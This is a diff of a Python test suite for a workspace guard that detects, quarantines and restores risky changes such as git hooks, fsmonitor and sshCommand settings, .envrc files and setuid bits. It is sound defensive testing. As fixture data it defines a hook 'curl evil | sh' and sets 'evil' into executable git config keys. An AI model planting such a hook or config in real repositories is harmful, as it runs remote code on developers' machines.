@@ -14,8 +14,11 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from init import gitconfig, gitindex, guard, guard_quarantine, guard_table, guard_views, guard_walk
-from init.guard import Change
+from init import gitconfig, gitindex, guard, guard_table, guard_views
+from init import guard_quarantine as kept
+from init import guard_snapshot as snapshot
+from init import guard_walk as walk
+from init.guard_snapshot import Change
 
 HOOK = "#!/bin/sh\ncurl evil | sh\n"
 RULES = (*guard_table.RULES, *guard_table.IN_REPOSITORY)
@@ -77,9 +80,9 @@ def put(path: Path, content: str | bytes = "", mode: int = 0o644) -> Path:
 
 
 def changes(root: Path, act: Callable[[], object]) -> tuple[Change, ...]:
-    before = guard.take(str(root))
+    before = walk.search(str(root))
     act()
-    return guard.compare(before, guard.take(str(root)))
+    return guard.compare(before, walk.search(str(root)))
 
 
 def told(root: Path, act: Callable[[], object]) -> dict[str, tuple[str, tuple[str, ...]]]:
@@ -341,7 +344,7 @@ def test_a_shared_repository_counts_where_commondir_says(root: Path, project: Pa
 
 def test_a_git_file_of_a_repository_that_is_gone_is_nothing(root: Path) -> None:
     put(root / "project" / ".git", "gitdir: ../gone\n")
-    assert guard.take(str(root)).unseen == ()
+    assert walk.search(str(root)).unseen == ()
 
 
 def test_a_commondir_that_leads_out_is_told(root: Path, project: Path) -> None:
@@ -394,7 +397,7 @@ def test_includes_in_a_circle_or_a_long_row_end(root: Path, project: Path, many:
     git(project, "config", "include.path", "../c0")
     for number in range(many):
         put(project / f"c{number}", f"[include]\npath = c{(number + 1) % many}\n")
-    assert f"project/c{min(many, 1000) - 1}" in guard.take(str(root)).items
+    assert f"project/c{min(many, 1000) - 1}" in walk.search(str(root)).items
 
 
 @pytest.mark.parametrize(
@@ -538,7 +541,7 @@ def test_an_index_of_longer_names_of_objects_is_read(root: Path) -> None:
     git(root, "add", "-f", "vendor")
     found = told(root, lambda: git(root / "vendor", "config", "core.fsmonitor", "evil"))
     assert found == {"vendor/.git/config": EVIL}
-    assert guard.take(str(root)).unseen == ()
+    assert walk.search(str(root)).unseen == ()
 
 
 @pytest.mark.parametrize("version", ["2", "4"])
@@ -578,20 +581,20 @@ def no_index(path: Path) -> None:
         lambda path: path.write_bytes(path.read_bytes()[:100]),
         lambda path: path.write_bytes(b"DIRC\0\0\0\2\xff\xff\xff\xff" + b"\0" * 10_000_000),
         lambda path: path.write_bytes(b"DIRC\0\0\0\4\xff\xff\xff\xff" + b"\xff" * 1_000_000),
-        lambda path: os.truncate(path, guard_walk.MAX_INDEX + 1),
+        lambda path: os.truncate(path, walk.MAX_INDEX + 1),
         no_index,
     ],
 )
 def test_an_index_that_cannot_be_read_is_told(root: Path, project: Path, act: Callable[[Path], None]) -> None:
     start = time.process_time()
     act(project / ".git" / "index")
-    assert guard.take(str(root)).unseen == ("project/.git/index",)
+    assert walk.search(str(root)).unseen == ("project/.git/index",)
     assert time.process_time() - start < 5
 
 
 def test_a_sparse_index_does_not_tell_all(root: Path, project: Path) -> None:
     git(project, "sparse-checkout", "set", "--cone", "--sparse-index", "none")
-    assert guard.take(str(root)).unseen == ("project/.git/index",)
+    assert walk.search(str(root)).unseen == ("project/.git/index",)
 
 
 def test_an_index_that_names_too_many_ends(
@@ -599,8 +602,8 @@ def test_an_index_that_names_too_many_ends(
 ) -> None:
     for name in ("vendor", "target"):
         embed(project, name)
-    monkeypatch.setattr(guard_walk, "MAX_LEADS", 0)
-    assert "project/vendor" in guard.take(str(root)).unseen
+    monkeypatch.setattr(walk, "MAX_LEADS", 0)
+    assert "project/vendor" in walk.search(str(root)).unseen
 
 
 def _entry(mode: int, flags: int, rest: bytes) -> bytes:
@@ -614,7 +617,7 @@ def test_an_index_that_several_threads_read_is_read(root: Path, project: Path, v
     put(project / "more")
     git(project, "-c", "index.threads=2", "-c", "index.recordOffsetTable=true", "add", "more")
     assert b"IEOT" in (project / ".git" / "index").read_bytes()
-    assert guard.take(str(root)).unseen == ()
+    assert walk.search(str(root)).unseen == ()
     found = told(root, lambda: git(inner, "config", "core.fsmonitor", "evil"))
     assert found == {"project/vendor/.git/config": EVIL}
 
@@ -669,8 +672,8 @@ def test_the_objects_of_a_submodule_are_not_searched(
     store = project / ".git" / "modules" / "libs" / "other"
     for number in range(256):
         (store / "objects" / f"{number:02x}").mkdir(exist_ok=True)
-    monkeypatch.setattr(guard_walk, "MAX_FOLDERS", 50)
-    assert guard.take(str(root)).unseen == ()
+    monkeypatch.setattr(walk, "MAX_FOLDERS", 50)
+    assert walk.search(str(root)).unseen == ()
 
 
 @pytest.mark.parametrize("name", ["logs", "info", "objects", "logs/a"])
@@ -684,7 +687,7 @@ def test_a_submodule_may_have_the_name_of_a_folder_of_git(root: Path, project: P
 
     assert told(root, act) == {f"project/.git/modules/{name}/config": EVIL}
     shutil.rmtree(project / "libs" / "again")
-    assert f"project/.git/modules/{name}/config" in guard.take(str(root)).items
+    assert f"project/.git/modules/{name}/config" in walk.search(str(root)).items
 
 
 # What is not told
@@ -844,12 +847,12 @@ def test_a_special_file_neither_hangs_nor_stops_the_search(
 
     found = changes(root, act)
     assert {change.path: change.lines for change in found} == {name: ("is not a file",), "z/.envrc": ("a",)}
-    outcomes = guard.quarantine(str(root), found, str(tmp_path / "q"))
+    outcomes = kept.put_away(str(root), found, str(tmp_path / "q"))
     assert {outcome.what for outcome in outcomes} == {"moved"}
-    assert guard.compare(EMPTY, guard.take(str(root))) == ()
+    assert guard.compare(EMPTY, walk.search(str(root))) == ()
 
 
-EMPTY = guard.Snapshot({}, ())
+EMPTY = snapshot.Snapshot({}, ())
 
 
 @pytest.mark.parametrize("name", [".envrc", ".git", ".vscode", ".git/hooks", ".git/config", "HEAD"])
@@ -858,7 +861,7 @@ def test_links_in_a_circle_end(root: Path, name: str) -> None:
     (root / name).parent.mkdir(parents=True, exist_ok=True)
     (root / name).symlink_to(Path(name).name)
     (root / "up").symlink_to(".")
-    assert not guard.take(str(root)).unseen
+    assert not walk.search(str(root)).unseen
 
 
 def test_a_workspace_that_is_itself_all_it_can_be(root: Path) -> None:
@@ -867,7 +870,7 @@ def test_a_workspace_that_is_itself_all_it_can_be(root: Path) -> None:
     put(root / "HEAD", "ref: x")
     put(root / "config", "[core]\nworktree = .\nhooksPath = .\n[include]\npath = config\n")
     put(root / "hooks" / "x", "a")
-    found = guard.take(str(root))
+    found = walk.search(str(root))
     assert {"hooks/x", "config", ".git"} <= set(found.items)
     assert not found.unseen
 
@@ -898,15 +901,15 @@ HOSTILE = {
 def test_content_made_to_take_long_does_not(root: Path, tmp_path: Path, name: str, number: int) -> None:
     put(root / name, HOSTILE[name][number])
     start = time.process_time()
-    found = guard.compare(EMPTY, guard.take(str(root)))
+    found = guard.compare(EMPTY, walk.search(str(root)))
     assert len(guard.report(found)) < 5000
-    guard.quarantine(str(root), found, str(tmp_path / "q"))
-    assert guard.compare(EMPTY, guard.take(str(root)))[:1] in ((), (unseen(root),))
+    kept.put_away(str(root), found, str(tmp_path / "q"))
+    assert guard.compare(EMPTY, walk.search(str(root)))[:1] in ((), (unseen(root),))
     assert time.process_time() - start < 20
 
 
 def unseen(root: Path) -> Change | None:
-    found = guard.compare(EMPTY, guard.take(str(root)))
+    found = guard.compare(EMPTY, walk.search(str(root)))
     return found[0] if found and found[0].what == "unseen" else None
 
 
@@ -920,9 +923,9 @@ def test_where_a_limit_ends_the_search_it_says_so(
     put(root / "a" / "b" / "c" / "d" / ".envrc", "a")
     put(root / ".envrc", "a")
     (root / ".vimrc").symlink_to(".envrc")
-    assert not guard.take(str(root)).unseen
-    monkeypatch.setattr(guard_walk, limit, value)
-    found = guard.take(str(root))
+    assert not walk.search(str(root)).unseen
+    monkeypatch.setattr(walk, limit, value)
+    found = walk.search(str(root))
     assert found.unseen
     *_, last = guard.compare(found, found)
     assert last.what == "unseen"
@@ -933,7 +936,7 @@ def test_where_a_limit_ends_the_search_it_says_so(
 def test_a_file_too_large_to_read_is_told_when_it_changes(
     root: Path, monkeypatch: pytest.MonkeyPatch, limit: str, value: int
 ) -> None:
-    monkeypatch.setattr(guard_walk, limit, value)
+    monkeypatch.setattr(walk, limit, value)
     put(root / ".envrc", "a" * 100)
     assert told(root, lambda: None) == {}
     os.utime(root / ".envrc", (0, 0))
@@ -952,7 +955,7 @@ def test_what_may_not_be_read_is_told(root: Path) -> None:
     put(root / ".envrc", "a", 0)
     put(root / "a" / ".envrc").parent.chmod(0)
     try:
-        found = guard.compare(EMPTY, guard.take(str(root)))
+        found = guard.compare(EMPTY, walk.search(str(root)))
     finally:
         (root / "a").chmod(0o700)
     assert [(change.path, change.what) for change in found] == [(".envrc", "added"), ("", "unseen")]
@@ -962,9 +965,9 @@ def test_what_may_not_be_read_is_told(root: Path) -> None:
 def test_a_search_leaves_no_descriptor_open(root: Path, project: Path, tmp_path: Path) -> None:
     put(project / ".envrc", "a")
     before = os.listdir("/proc/self/fd")  # noqa: PTH208
-    found = guard.compare(EMPTY, guard.take(str(root)))
-    guard.quarantine(str(root), found, str(tmp_path / "q"))
-    guard.accept(str(root), str(tmp_path / "q"))
+    found = guard.compare(EMPTY, walk.search(str(root)))
+    kept.put_away(str(root), found, str(tmp_path / "q"))
+    kept.accept(str(root), str(tmp_path / "q"))
     assert os.listdir("/proc/self/fd") == before  # noqa: PTH208
 
 
@@ -982,7 +985,7 @@ def test_a_report_is_printable_whatever_it_quotes(found: list[Change]) -> None:
 
 
 def test_a_report_is_capped_and_says_what_it_leaves_out(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(guard_walk, "MAX_DEPTH", 1)
+    monkeypatch.setattr(walk, "MAX_DEPTH", 1)
 
     def act() -> None:
         for number in range(guard.MAX_CHANGES + 3):
@@ -1045,16 +1048,16 @@ def attack(project: Path) -> None:
 def test_what_is_taken_away_is_gone_and_comes_back_when_it_is_accepted(
     root: Path, project: Path, tmp_path: Path
 ) -> None:
-    calm, before = everything(root), guard.take(str(root))
+    calm, before = everything(root), walk.search(str(root))
     attack(project)
     attacked = everything(root)
-    found = guard.compare(before, guard.take(str(root)))
+    found = guard.compare(before, walk.search(str(root)))
     folder = tmp_path / "data" / "quarantine" / "1"
-    outcomes = guard.quarantine(str(root), found, str(folder))
+    outcomes = kept.put_away(str(root), found, str(folder))
     assert {outcome.what for outcome in outcomes} == {"moved", "restored"}
     assert everything(root) == calm
     assert stat.S_IMODE(folder.stat().st_mode) == 0o700
-    accepted = guard.accept(str(root), str(folder))
+    accepted = kept.accept(str(root), str(folder))
     assert {outcome.what for outcome in accepted} == {"accepted"}
     assert everything(root) == attacked
     assert not folder.exists()
@@ -1073,7 +1076,7 @@ def test_of_a_git_configuration_only_what_runs_is_put_back(root: Path, project: 
         git(project, "config", "user.name", "new")
         git(project, "remote", "add", "origin", "u")
 
-    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
     listed = dict(line.split("=", 1) for line in git(project, "config", "--local", "--list").splitlines())
     assert listed["core.editor"] == "mine"
     assert listed["core.pager"] == "less"
@@ -1081,7 +1084,7 @@ def test_of_a_git_configuration_only_what_runs_is_put_back(root: Path, project: 
     assert listed["user.name"] == "new"
     assert listed["remote.origin.url"] == "u"
     assert {"core.fsmonitor", "alias.x"}.isdisjoint(listed)
-    guard.accept(str(root), str(tmp_path / "q"))
+    kept.accept(str(root), str(tmp_path / "q"))
     assert git(project, "config", "core.fsmonitor") == "evil\n"
 
 
@@ -1090,7 +1093,7 @@ def test_a_new_repository_keeps_its_configuration_but_for_what_runs(root: Path, 
         git(root, "init", "-q", "new")
         git(root / "new", "config", "core.sshCommand", "evil")
 
-    (outcome,) = guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    (outcome,) = kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
     assert outcome == ("new/.git/config", "restored", "")
     assert git(root / "new", "config", "--list", "--local").count("core.") >= 3
     assert "sshcommand" not in git(root / "new", "config", "--list", "--local")
@@ -1102,7 +1105,7 @@ def test_a_configuration_that_cannot_be_read_is_replaced_as_a_whole(
     config = project / ".git" / "config"
     former = config.read_bytes()
     found = changes(root, lambda: config.write_text("[core]\nfsmonitor = evil\n!"))
-    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    kept.put_away(str(root), found, str(tmp_path / "q"))
     assert config.read_bytes() == former
 
 
@@ -1110,9 +1113,9 @@ def test_a_configuration_that_cannot_be_read_is_replaced_as_a_whole(
 def test_what_was_too_large_to_keep_stays_and_is_told(
     root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str
 ) -> None:
-    monkeypatch.setattr(guard_walk, limit, 10)
+    monkeypatch.setattr(walk, limit, 10)
     put(root / ".envrc", "a" * 100)
-    (outcome,) = guard.quarantine(
+    (outcome,) = kept.put_away(
         str(root), changes(root, lambda: put(root / ".envrc", "b" * 101)), str(tmp_path / "q")
     )
     why = "too large to put back what was there before: look at it yourself"
@@ -1123,16 +1126,16 @@ def test_what_was_too_large_to_keep_stays_and_is_told(
 def test_what_cannot_be_copied_gets_another_name_and_comes_back(
     root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(guard_quarantine, "MAX_COPY", 100)
+    monkeypatch.setattr(kept, "MAX_COPY", 100)
 
     def act() -> None:
         put(root / ".envrc", "b" * 101)
         os.mkfifo(root / ".vimrc")
 
-    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
-    assert guard.compare(EMPTY, guard.take(str(root))) == ()
+    kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
+    assert guard.compare(EMPTY, walk.search(str(root))) == ()
     assert len(list(root.iterdir())) == 2
-    guard.accept(str(root), str(tmp_path / "q"))
+    kept.accept(str(root), str(tmp_path / "q"))
     assert (root / ".envrc").read_text() == "b" * 101
     assert (root / ".vimrc").is_fifo()
 
@@ -1144,7 +1147,7 @@ def test_a_hard_link_to_a_file_that_is_put_back_does_not_change(
         put(project / "Makefile", "evil\n")
         (root / "other").hardlink_to(project / "Makefile")
 
-    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
     assert (root / "other").read_text() == "evil\n"
     assert (project / "Makefile").read_text() == "all:\n\techo\n"
 
@@ -1154,7 +1157,7 @@ def test_a_locked_folder_and_a_locked_file_do_not_keep_what_runs(root: Path, tmp
     def act() -> None:
         put(root / "a" / ".envrc", "a", 0).parent.chmod(0o500)
 
-    (outcome,) = guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    (outcome,) = kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
     assert outcome.what == "moved"
     assert not (root / "a" / ".envrc").exists()
 
@@ -1186,7 +1189,7 @@ def test_what_is_the_users_and_only_led_to_stays(
 
     found = changes(root, act)
     assert len(found) > 1
-    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    kept.put_away(str(root), found, str(tmp_path / "q"))
     if name == ".git/config":
         del calm[str(project / name)]
         assert (project / name).read_text() in ("[core]\n", "[include]\n")
@@ -1206,7 +1209,7 @@ def test_what_the_users_own_settings_lead_to_does_not_stay(
 
     found = changes(root, act)
     assert {change.path for change in found} == {"project/.git/config", "project/tools/pre-push"}
-    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    kept.put_away(str(root), found, str(tmp_path / "q"))
     assert "evil" not in "".join(path.read_text() for path in (project / "tools").iterdir())
 
 
@@ -1218,7 +1221,7 @@ def test_what_is_led_to_but_risky_by_its_name_does_not_stay(root: Path, tmp_path
         put(root / ".git" / "hooks" / "x").unlink()
         (root / ".git" / "hooks" / "x").symlink_to("../../a/b/c/.envrc")
 
-    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
     assert not (root / "a" / "b" / "c" / ".envrc").exists()
 
 
@@ -1228,7 +1231,7 @@ def test_a_folder_swapped_for_a_link_is_not_followed(root: Path, tmp_path: Path)
     shutil.rmtree(root / "a")
     (root / "a").mkdir()
     (root / "a" / "b").symlink_to(outside)
-    (outcome,) = guard.quarantine(str(root), found, str(tmp_path / "q"))
+    (outcome,) = kept.put_away(str(root), found, str(tmp_path / "q"))
     assert outcome.what == "failed"
     assert (outside / ".envrc").read_text() == "mine"
 
@@ -1239,13 +1242,13 @@ def test_a_quarantine_is_a_new_folder_outside_of_the_workspace(root: Path, tmp_p
     (tmp_path / "link").symlink_to("elsewhere")
     found = changes(root, lambda: put(root / ".envrc", "evil"))
     with pytest.raises(OSError, match=r"exists|in the workspace"):
-        guard.quarantine(str(root), found, str(tmp_path / name))
+        kept.put_away(str(root), found, str(tmp_path / name))
     assert (root / ".envrc").exists()
 
 
 def test_unseen_places_are_nothing_to_take_away(root: Path, tmp_path: Path) -> None:
-    found = guard.compare(EMPTY, guard.Snapshot({}, ("a",)))
-    assert guard.quarantine(str(root), found, str(tmp_path / "q")) == ()
+    found = guard.compare(EMPTY, snapshot.Snapshot({}, ("a",)))
+    assert kept.put_away(str(root), found, str(tmp_path / "q")) == ()
 
 
 def test_what_somebody_has_written_since_is_not_overwritten(
@@ -1256,10 +1259,10 @@ def test_what_somebody_has_written_since_is_not_overwritten(
         put(project / ".envrc", "evil")
         put(project / ".vimrc", "evil")
 
-    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
     put(project / "Makefile", "mine\n")
     put(project / ".envrc", "mine")
-    outcomes = {outcome.path: outcome.what for outcome in guard.accept(str(root), str(tmp_path / "q"))}
+    outcomes = {outcome.path: outcome.what for outcome in kept.accept(str(root), str(tmp_path / "q"))}
     assert outcomes == {
         "project/Makefile": "failed",
         "project/.envrc": "failed",
@@ -1268,7 +1271,7 @@ def test_what_somebody_has_written_since_is_not_overwritten(
     assert (project / "Makefile").read_text() == "mine\n"
     # What failed still waits.
     (project / ".envrc").unlink()
-    again = {outcome.path: outcome.what for outcome in guard.accept(str(root), str(tmp_path / "q"))}
+    again = {outcome.path: outcome.what for outcome in kept.accept(str(root), str(tmp_path / "q"))}
     assert again == {"project/Makefile": "failed", "project/.envrc": "accepted"}
 
 
@@ -1283,19 +1286,19 @@ def test_what_somebody_has_written_since_is_not_overwritten(
 def test_a_manifest_that_was_tampered_with_is_refused(
     root: Path, tmp_path: Path, change: dict[str, object]
 ) -> None:
-    guard.quarantine(str(root), changes(root, lambda: put(root / ".envrc", "evil")), str(tmp_path / "q"))
+    kept.put_away(str(root), changes(root, lambda: put(root / ".envrc", "evil")), str(tmp_path / "q"))
     manifest = tmp_path / "q" / "manifest.json"
     (entry,) = json.loads(manifest.read_text())
     manifest.write_text(json.dumps([{**entry, **change}]))
     with pytest.raises(ValueError, match="none of ours"):
-        guard.accept(str(root), str(tmp_path / "q"))
+        kept.accept(str(root), str(tmp_path / "q"))
 
 
 @pytest.mark.parametrize("content", ["", "{}x", "1", "[1]", '{"a": 1}', "[" * 100_000, b"\xff"])
 def test_a_manifest_that_is_none_is_refused(root: Path, tmp_path: Path, content: str | bytes) -> None:
     put(tmp_path / "q" / "manifest.json", content)
     with pytest.raises(ValueError, match="none of ours"):
-        guard.accept(str(root), str(tmp_path / "q"))
+        kept.accept(str(root), str(tmp_path / "q"))
 
 
 @pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: path.symlink_to("0")])
@@ -1305,17 +1308,17 @@ def test_a_manifest_that_is_no_file_is_refused(
     put(tmp_path / "q" / "0", "[]")
     make(tmp_path / "q" / "manifest.json")
     with pytest.raises(OSError, match="cannot be read"):
-        guard.accept(str(root), str(tmp_path / "q"))
+        kept.accept(str(root), str(tmp_path / "q"))
 
 
 def test_what_is_accepted_never_gets_out_by_a_link(root: Path, tmp_path: Path) -> None:
     outside = tmp_path / "outside"
     outside.mkdir()
     found = changes(root, lambda: put(root / "a" / ".envrc", "evil"))
-    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    kept.put_away(str(root), found, str(tmp_path / "q"))
     (root / "a").rmdir()
     (root / "a").symlink_to(outside)
-    (outcome,) = guard.accept(str(root), str(tmp_path / "q"))
+    (outcome,) = kept.accept(str(root), str(tmp_path / "q"))
     assert outcome.what == "failed"
     assert list(outside.iterdir()) == []
 
@@ -1324,8 +1327,8 @@ def test_setuid_is_not_given_back(root: Path, tmp_path: Path) -> None:
     def act() -> None:
         put(root / ".envrc", "evil", 0o6755)
 
-    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
-    guard.accept(str(root), str(tmp_path / "q"))
+    kept.put_away(str(root), changes(root, act), str(tmp_path / "q"))
+    kept.accept(str(root), str(tmp_path / "q"))
     assert stat.S_IMODE((root / ".envrc").stat().st_mode) == 0o755
 
 
